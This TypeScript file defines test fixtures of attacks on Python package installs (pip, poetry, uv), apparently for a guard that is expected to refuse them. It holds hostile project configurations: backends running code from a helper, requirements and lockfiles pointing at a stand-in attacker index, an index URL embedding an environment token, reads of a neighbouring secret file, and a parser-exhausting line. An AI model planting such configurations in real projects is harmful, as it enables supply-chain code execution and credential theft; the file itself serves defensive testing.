// Build backends, indexes and sources of Python projects.

import { type Attack, evilPython, type Files, type Scene } from './attack.ts'

const backend = (scene: Scene): Files => ({
  'pyproject.toml':
    '[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n[project]\nname = "t"\nversion = "1"\n',
  'evil.py': evilPython(scene),
  'setup.py': evilPython(scene),
})
const requirements =
  (lines: (scene: Scene) => readonly string[]): Attack['files'] =>
  (scene) => ({
    'requirements.txt': `${lines(scene).join('\n')}\n`,
  })
const plain = [
  'pip3',
  'install',
  '--target',
  'out',
  '--retries=0',
  '--no-deps',
  '-r',
  'requirements.txt',
]

const pip: readonly Attack[] = [
  {
    name: 'the project itself, with its own build backend',
    manager: 'pip',
    files: (scene) => ({ ...backend(scene), 'requirements.txt': '.\n' }),
    ends: 'either',
    control: plain,
    isQuick: true,
  },
  {
    name: 'an editable install of a folder inside',
    manager: 'pip',
    files: (scene) => ({
      ...Object.fromEntries(
        Object.entries(backend(scene)).map(([name, content]) => [`lib/${name}`, content]),
      ),
      'requirements.txt': '-e ./lib\n',
    }),
    ends: 'either',
    control: plain,
  },
  {
    name: 'indexes, links and hosts that requirements.txt names',
    manager: 'pip',
    files: requirements(({ evil, neighbor }) => [
      `--index-url ${evil}simple`,
      `--extra-index-url ${evil}`,
      `--find-links ${neighbor}`,
      '--trusted-host 127.0.0.1',
      'a==1.0',
    ]),
    ends: 'refused',
    control: plain,
  },
  {
    name: 'the same, spelled as pip reads it too',
    manager: 'pip',
    files: requirements(({ evil }) => [
      `-i${evil}simple`,
      `--extra-index=${evil}`,
      `-f${evil}`,
      'a==1.0',
    ]),
    ends: 'refused',
    control: plain,
  },
  {
    name: 'an index with a password from the environment',
    manager: 'pip',
    files: requirements(({ evil }) => [
      `--index-url ${evil.replace('://', '://operator:${NPM_TOKEN}@')}simple`,
      'a==1.0',
    ]),
    ends: 'refused',
    control: plain,
  },
  {
    name: 'pip.conf of the project',
    manager: 'pip',
    files: (scene) => ({
      'requirements.txt': 'a==1.0\n',
      'pip.conf': `[global]\nindex-url = ${scene.evil}\ntarget = ${scene.neighbor}\n`,
      '.config/pip/pip.conf': `[global]\nindex-url = ${scene.evil}\n`,
      'setup.cfg': `[install]\nprefix = ${scene.neighbor}\n[easy_install]\nindex_url = ${scene.evil}\n`,
    }),
    ends: 'refused',
  },
  {
    name: 'requirements and constraints from outside',
    manager: 'pip',
    files: requirements(({ neighbor }) => [
      `-r ${neighbor}/secret.txt`,
      '-c ../../neighbor/secret.txt',
    ]),
    ends: 'refused',
    isQuick: true,
  },
  {
    name: 'requirements from outside, with no space before the path',
    manager: 'pip',
    files: requirements(({ neighbor }) => [`-r${neighbor}/secret.txt`]),
    ends: 'refused',
  },
  {
    name: 'a folder outside, editable and not',
    manager: 'pip',
    files: requirements(({ neighbor }) => [`-e ${neighbor}`, `a @ file://${neighbor}`]),
    ends: 'refused',
  },
  {
    name: 'a folder outside, as an editable with no space',
    manager: 'pip',
    files: requirements(({ neighbor }) => [`--editable=${neighbor}`]),
    ends: 'refused',
  },
  {
    name: 'packages from repositories',
    manager: 'pip',
    files: requirements(() => ['git+https://example.com/a.git', 'b @ hg+https://example.com/b']),
    ends: 'refused',
  },
  {
    name: 'a package from another URL',
    manager: 'pip',
    files: requirements(({ evil }) => [`${evil}a-1.0-py3-none-any.whl ; python_version > "3"`]),
    ends: 'refused',
    control: plain,
  },
  {
    name: 'a source distribution of the registry with a setup.py',
    manager: 'pip',
    files: requirements(() => ['a==1.0']),
    answers: ({ registry }) => ({
      '/simple/a/': {
        headers: { 'content-type': 'text/html' },
        body: `<a href="${registry}files/a-1.0.tar.gz">a-1.0.tar.gz</a>`,
      },
    }),
    ends: 'refused',
  },
  {
    name: 'an index of the operator that links to another host',
    manager: 'pip',
    files: requirements(() => ['a==1.0']),
    answers: ({ evil }) => ({
      '/simple/a/': {
        headers: { 'content-type': 'text/html' },
        body: `<a href="${evil}a-1.0-py3-none-any.whl">a-1.0-py3-none-any.whl</a>`,
      },
    }),
    ends: 'refused',
    control: plain,
  },
  {
    name: 'a line that keeps a parser busy',
    manager: 'pip',
    files: requirements(() => [`a${' #'.repeat(200_000)}\u2028`, '\\\n'.repeat(100_000)]),
    ends: 'either',
  },
]

const lockOf = (source: string): string =>
  `[[package]]\nname = "a"\nversion = "1.0"\ndescription = ""\noptional = false\npython-versions = "*"\nfiles = []\n\n${source}\n[metadata]\nlock-version = "2.0"\npython-versions = "*"\ncontent-hash = "x"\n`

const poetryProject = (more = ''): string =>
  `[tool.poetry]\nname = "t"\nversion = "1"\ndescription = ""\nauthors = []\n[tool.poetry.dependencies]\npython = "*"\n${more}`

const poetry: readonly Attack[] = [
  {
    name: 'a build script and a backend of the project',
    manager: 'poetry',
    files: (scene) => ({
      'pyproject.toml': `${poetryProject('[tool.poetry.build]\nscript = "build.py"\ngenerate-setup-file = true\n')}[build-system]\nrequires = ["poetry-core"]\nbuild-backend = "evil"\nbackend-path = ["."]\n`,
      'evil.py': evilPython(scene),
      'build.py': evilPython(scene),
      'poetry.lock':
        'package = []\n[metadata]\nlock-version = "2.0"\npython-versions = "*"\ncontent-hash = "x"\n',
      'poetry.toml': `[virtualenvs]\npath = "${scene.neighbor}/venvs"\nin-project = false\n`,
    }),
    ends: 'either',
  },
  {
    name: 'a source that only the project names',
    manager: 'poetry',
    files: (scene) => ({
      'pyproject.toml': poetryProject(
        `a = "1.0"\n[[tool.poetry.source]]\nname = "private"\nurl = "${scene.evil}simple"\n`,
      ),
      'poetry.lock': lockOf(
        `[package.source]\ntype = "legacy"\nurl = "${scene.evil}simple"\nreference = "private"\n`,
      ),
    }),
    ends: 'refused',
  },
  {
    name: 'packages from git, a URL and a folder outside',
    manager: 'poetry',
    files: (scene) => ({
      'pyproject.toml': poetryProject(`a = { path = "${scene.neighbor}" }\n`),
      'poetry.lock': lockOf(`[package.source]\ntype = "directory"\nurl = "${scene.neighbor}"\n`),
    }),
    ends: 'refused',
  },
]

const uvLock = (source: string, more = ''): string =>
  `version = 1\nrequires-python = ">=3.8"\n\n[[package]]\nname = "a"\nversion = "1.0"\nsource = ${source}\n${more}`

const uv: readonly Attack[] = [
  {
    name: 'an index of the project, in pyproject.toml and in the lockfile',
    manager: 'uv',
    files: (scene) => ({
      'pyproject.toml': `[project]\nname = "t"\nversion = "1"\ndependencies = ["a"]\n[[tool.uv.index]]\nurl = "${scene.evil}simple"\ndefault = true\n`,
      'uv.lock': uvLock(
        `{ registry = "${scene.evil}simple" }`,
        `wheels = [{ url = "${scene.evil}a-1.0-py3-none-any.whl", hash = "sha256:00" }]\n`,
      ),
    }),
    ends: 'refused',
  },
  {
    name: 'a package from a URL',
    manager: 'uv',
    files: (scene) => ({
      'pyproject.toml': '[project]\nname = "t"\nversion = "1"\n',
      'uv.lock': uvLock(`{ url = "${scene.evil}a-1.0.tar.gz" }`),
    }),
    ends: 'refused',
  },
  {
    name: 'a folder outside',
    manager: 'uv',
    files: (scene) => ({
      'pyproject.toml': '[project]\nname = "t"\nversion = "1"\n',
      'uv.lock': uvLock(`{ editable = "${scene.neighbor}" }`),
    }),
    ends: 'refused',
  },
]

export const pythonAttacks: readonly Attack[] = [...pip, ...poetry, ...uv]
